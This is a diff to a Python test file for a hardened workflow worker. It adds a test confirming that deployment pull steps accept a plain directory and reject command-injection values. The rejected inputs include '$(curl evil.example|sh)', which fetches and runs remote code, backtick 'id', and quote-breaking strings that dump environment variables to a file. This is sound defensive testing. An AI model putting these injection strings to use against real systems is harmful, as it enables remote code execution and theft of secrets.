@@ -9,6 +9,7 @@ refused deployment. The same worker still runs an untouched deployment of the sh
 
 from __future__ import annotations
 
+import json
 import subprocess
 import sys
 import time
@@ -249,3 +250,29 @@ def test_the_hardened_worker_cancels_a_running_flow_and_runs_its_cancellation_ho
         worker.terminate()
         worker.wait(timeout=60)
     assert table_digests(ehr) == before  # nothing archived, nothing deleted
+
+
+def test_issue_15_item_1_only_the_deploy_directory_may_vary_in_the_pull_steps() -> None:
+    """Issue 15 item 1: shipped steps with a plain directory pass; shell syntax there fails."""
+    from flows.hardened import _steps_match, shipped_specs
+
+    _, pull = shipped_specs()
+    text = json.dumps(pull)
+    assert "{{ project-root.stdout }}" in text
+
+    def stored(directory: str, value: Any = None) -> Any:
+        value = pull if value is None else value
+        if isinstance(value, dict):
+            return {k: stored(directory, v) for k, v in value.items()}
+        if isinstance(value, list):
+            return [stored(directory, v) for v in value]
+        if isinstance(value, str):
+            return value.replace("{{ project-root.stdout }}", directory)
+        return value
+
+    assert _steps_match(pull, stored("/srv/custody checkout/app"))
+    for hostile in ("/srv/$(curl evil.example|sh)", "/srv/`id`", "/srv\"; env > /tmp/x; \"",
+                    "/srv'; env; '"):  # fmt: skip
+        assert not _steps_match(pull, stored(hostile)), hostile
+    assert not _steps_match(pull, [*stored("/srv"), {"prefect.deployments.steps.pip_install": {}}])
+    assert not _steps_match(pull, stored("/srv")[:1])
